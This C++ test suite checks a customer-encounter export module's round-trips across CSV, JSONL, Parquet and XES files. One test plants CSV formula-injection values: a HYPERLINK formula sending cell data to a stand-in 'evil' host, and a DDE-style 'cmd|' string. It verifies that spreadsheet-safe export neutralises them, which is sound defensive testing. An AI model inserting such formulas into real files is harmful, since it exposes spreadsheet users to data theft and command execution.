#include "intake/export.h"

#include <algorithm>
#include <set>

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <rapidcheck/gtest.h>

#include "base/text.h"
#include "encounter/encounter_json.h"
#include "encounter/faults.h"
#include "encounter/identify.h"
#include "intake/intake_test_folder.h"

namespace kokemus::intake {
namespace {

using encounter::Encounter;

/// Texts that readers like to stumble over.
rc::Gen<std::string> awkward_text() {
    return rc::gen::map(
        rc::gen::container<std::vector<std::string>>(rc::gen::element<std::string>("a",
                                                                                   "B7",
                                                                                   " ",
                                                                                   ",",
                                                                                   "\"",
                                                                                   "\"\"",
                                                                                   "'",
                                                                                   ";",
                                                                                   "\\",
                                                                                   "{",
                                                                                   "]",
                                                                                   "&",
                                                                                   "<",
                                                                                   "&#10;",
                                                                                   "é",
                                                                                   "日本",
                                                                                   "😀",
                                                                                   "0",
                                                                                   "007",
                                                                                   "-1.5",
                                                                                   "null",
                                                                                   "NULL",
                                                                                   "true",
                                                                                   "2026-01-01",
                                                                                   "\xEF\xBF\xBF")),
        [](const std::vector<std::string>& pieces) {
            std::string text;
            for (const std::string& piece : pieces) {
                text += piece;
            }
            return text;
        });
}

rc::Gen<std::string> awkward_name() {
    return rc::gen::map(awkward_text(), [](std::string text) { return text.substr(0, 60); });
}

std::optional<double> maybe_number() {
    return *rc::gen::element<std::optional<double>>(
        std::nullopt, 0.0, 5.0, -0.1, 1e300, 5e-324, 1.0 / 3.0, 123456789012345680.0);
}

Encounter random_encounter() {
    Encounter one;
    const std::string customer = *awkward_name();
    one.customer =
        encounter::CustomerName(is_valid_utf8(customer) && !customer.empty() ? customer : "anna");
    const auto fit = [](const std::string& text) {
        return is_valid_utf8(text) ? text : std::string();
    };
    one.time = Instant(
        Milliseconds(*rc::gen::inRange<std::int64_t>(-62'000'000'000'000, 250'000'000'000'000)));
    one.sequence = *rc::gen::arbitrary<std::uint64_t>();
    one.touchpoint = "t" + fit(*awkward_name());
    one.channel = fit(*awkward_name());
    one.department = fit(*awkward_name());
    one.employee = fit(*awkward_name());
    one.thread = encounter::ThreadName(fit(*awkward_name()));
    one.score = maybe_number();
    one.scale = one.score ? "s" + fit(*awkward_name()) : "";
    one.text = fit(*awkward_text() +
                   *rc::gen::element<std::string>("", "\n", "\r\n", "\t", "\x01", "line\nline"));
    one.language = fit(*awkward_name());
    one.value = maybe_number();
    one.duration_seconds = *rc::gen::element<std::optional<double>>(std::nullopt, 0.0, 12.5);
    if (*rc::gen::arbitrary<bool>()) {
        one.due["p" + fit(*awkward_name())] = one.time;
    }
    one.properties = *rc::gen::element<std::string>("",
                                                    R"({"a":1,"b":[1,2,{"c":"x\ny"}]})",
                                                    R"({"plan":"gold, \"big\"","z":0.1})",
                                                    R"({"a":null,"é":true})");
    one.time_clamped = *rc::gen::arbitrary<bool>();
    return one;
}

/// What is written as one file and read into an empty ledger.
std::vector<Encounter> round_trip(TestFolder& from, const std::string& name) {
    const auto written =
        export_encounters(from.ledger(), ExportOptions{.file = from.path() / name});
    RC_ASSERT(written);
    TestFolder to;
    // Times of the far future must stay as they are, so the clock stands behind them.
    const FixedClock clock(Instant(Milliseconds(253'000'000'000'000)));
    const auto report = import_encounters(
        to.ledger(), ImportOptions{.files = {from.path() / name}, .clock = &clock});
    if (!report) {
        RC_FAIL(report.error().message);
    }
    if (report->refused > 0) {
        RC_FAIL(describe(report->examples.front()));
    }
    return to.all();
}

std::string first_difference(const std::string& name, const std::vector<Encounter>& before,
                             const std::vector<Encounter>& after) {
    for (std::size_t at = 0; at < std::min(before.size(), after.size()); ++at) {
        if (!(before[at] == after[at])) {
            return name + ": " + encounter::to_json(before[at]) + " became " +
                   encounter::to_json(after[at]);
        }
    }
    return name + " has another number of encounters";
}

RC_GTEST_PROP(Export, what_is_exported_and_imported_again_is_equal, ()) {
    TestFolder folder;
    std::vector<Encounter> some;
    encounter::Identifier identifier;
    const int count = *rc::gen::inRange(1, 12);
    for (int at = 0; at < count; ++at) {
        Encounter one = random_encounter();
        identifier.identify(one);
        if (encounter::check(one).empty()) {
            some.push_back(std::move(one));
        }
    }
    RC_PRE(!some.empty());
    RC_ASSERT(folder.ledger().append(some));
    const auto before = folder.all();
    const auto name =
        *rc::gen::element<std::string>("all.csv", "all.jsonl", "all.parquet", "all.xes");
    const auto after = round_trip(folder, name);
    if (after != before) {
        RC_FAIL(first_difference(name, before, after));
    }
}

TEST(Export, writes_customers_with_their_traits) {
    TestFolder folder;
    const std::vector<encounter::Customer> customers = {
        {encounter::CustomerName("anna, \"A\""), {{"city", "Turku"}, {"plan", "gold\n1"}}},
        {encounter::CustomerName("007"), {{"age", "31"}}}};
    ASSERT_TRUE(folder.ledger().put_customers(customers));
    for (const char* name : {"c.csv", "c.jsonl", "c.parquet"}) {
        const auto written = export_encounters(
            folder.ledger(),
            ExportOptions{.file = folder.path() / name, .of = ExportOf::Customers});
        ASSERT_TRUE(written) << written.error().message;
        EXPECT_EQ(written->rows, 2U);
        TestFolder to;
        const auto report = to.import_files({folder.path() / name});
        ASSERT_TRUE(report) << report.error().message;
        for (const encounter::Customer& customer : customers) {
            const auto found = to.ledger().customer(customer.name);
            ASSERT_TRUE(found && found->has_value()) << name;
            EXPECT_EQ(**found, customer) << name;
        }
    }
    EXPECT_FALSE(export_encounters(
        folder.ledger(),
        ExportOptions{.file = folder.path() / "c.xes", .of = ExportOf::Customers}));
}

/// Whoever has the write key of a page says what stands in the cells.
TEST(Export, for_a_spreadsheet_has_nothing_that_calculates) {
    TestFolder folder;
    Encounter one;
    one.id = encounter::EncounterId("1");
    one.customer = encounter::CustomerName(R"(=HYPERLINK("http://evil/?"&B1;"x"))");
    one.touchpoint = "@SUM(1+1)*cmd|x";
    one.text = "plain";
    one.value = -7.5;
    ASSERT_TRUE(folder.ledger().append(std::vector{one}));
    const auto written = [&](bool is_for_spreadsheet) {
        EXPECT_TRUE(export_encounters(folder.ledger(),
                                      ExportOptions{.file = folder.path() / "a.csv",
                                                    .is_for_spreadsheet = is_for_spreadsheet}));
        return folder.read("a.csv");
    };
    EXPECT_THAT(written(false), testing::HasSubstr(",@SUM(1+1)*cmd|x,"));
    const std::string safe = written(true);
    EXPECT_THAT(safe, testing::HasSubstr(R"x(1,"'=HYPERLINK(""http://evil/?""&B1;""x"")",)x"));
    EXPECT_THAT(safe, testing::HasSubstr(",'@SUM(1+1)*cmd|x,"));
    EXPECT_THAT(safe, testing::HasSubstr(",plain,,-7.5,"));
}

TEST(Export, of_nothing_is_a_file_without_rows) {
    TestFolder folder;
    for (const char* name : {"a.csv", "a.parquet", "a.xes", "a.jsonl"}) {
        ASSERT_TRUE(
            export_encounters(folder.ledger(), ExportOptions{.file = folder.path() / name}));
        EXPECT_TRUE(std::filesystem::exists(folder.path() / name));
    }
}

TEST(Export, leaves_no_file_when_it_cannot_end) {
    TestFolder folder;
    Encounter one;
    one.customer = encounter::CustomerName("a");
    one.touchpoint = "x";
    std::vector<Encounter> many(60'000, one);
    encounter::Identifier identifier;
    std::for_each(many.begin(), many.end(), [&](Encounter& e) { identifier.identify(e); });
    ASSERT_TRUE(folder.ledger().append(many));
    for (const char* name : {"a.csv", "a.parquet", "a.xes", "a.jsonl"}) {
        const auto stopped =
            export_encounters(folder.ledger(),
                              ExportOptions{.file = folder.path() / name,
                                            .progress = [](std::uint64_t) { return false; }});
        ASSERT_FALSE(stopped);
        EXPECT_EQ(stopped.error().code, ErrorCode::Cancelled);
        EXPECT_FALSE(std::filesystem::exists(folder.path() / name));
    }
    const auto unnamed =
        export_encounters(folder.ledger(), ExportOptions{.file = folder.path() / "a.doc"});
    ASSERT_FALSE(unnamed);
    EXPECT_THAT(unnamed.error().message, testing::HasSubstr("end it in .csv"));
    EXPECT_FALSE(
        export_encounters(folder.ledger(), ExportOptions{.file = folder.path() / "no" / "a.csv"}));
}

}  // namespace
}  // namespace kokemus::intake
